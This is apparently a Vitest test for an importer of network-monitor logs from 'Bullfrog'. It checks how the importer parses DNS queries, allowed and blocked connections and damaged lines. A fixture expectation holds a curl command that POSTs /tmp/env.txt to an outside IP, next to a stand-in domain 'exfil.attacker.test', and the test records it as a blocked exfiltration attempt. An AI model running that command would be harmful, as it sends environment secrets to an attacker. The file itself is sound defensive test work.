import { describe, expect, it } from 'vitest';
import { bullfrogImporter } from '../../electron/import/formats/bullfrog';
import { parseRfc3339 } from '../../shared/time';
import { fixture, inputFromPath, runImporter } from './formats-harness';

describe('Bullfrog connections.log importer', () => {
  it('reads decisions, DNS questions, unknown sentinels and bad lines', async () => {
    const f = fixture('bullfrog', 'connections.log');
    expect(bullfrogImporter.sniff(inputFromPath(f))).toBeGreaterThanOrEqual(0.9);
    const out = await runImporter(bullfrogImporter, f);
    expect(out.dns.map((d) => [d.domain, d.answers, d.line])).toEqual([
      ['registry.example.com', [], 1],
      ['exfil.attacker.test', [], 3],
    ]);
    expect(out.det).toEqual([expect.objectContaining({ kind: 'blocked-call', line: 3, title: expect.stringContaining('exfil.attacker.test') })]);
    expect(out.net.map((n) => [n.ip, n.port, n.protocol, n.status, n.domain, n.pid, n.process, n.exe])).toEqual([
      ['203.0.113.10', 443, 'tcp', 'allowed', 'registry.example.com', 2401, 'node', '/usr/local/bin/node'],
      ['198.51.100.23', 8443, 'tcp', 'blocked', null, 2460, 'curl', '/usr/bin/curl'],
      ['192.0.2.53', 123, 'udp', 'allowed', null, null, null, null],
    ]);
    expect(out.net[0]!.ts).toBe(parseRfc3339('2026-06-17T08:40:35.245Z'));
    expect(out.net[1]).toMatchObject({
      command_line: 'curl -sS -X POST https://198.51.100.23:8443/collect -d @/tmp/env.txt',
      policy: { reason: 'ip-not-allowed' }, tool: { name: 'alpine:3.20' },
    });
    expect(out.warnings.map((w) => [w.line, w.message])).toEqual([
      [6, expect.stringContaining('dstPort')],
      [7, expect.stringContaining('damaged JSON')],
    ]);
  });
});
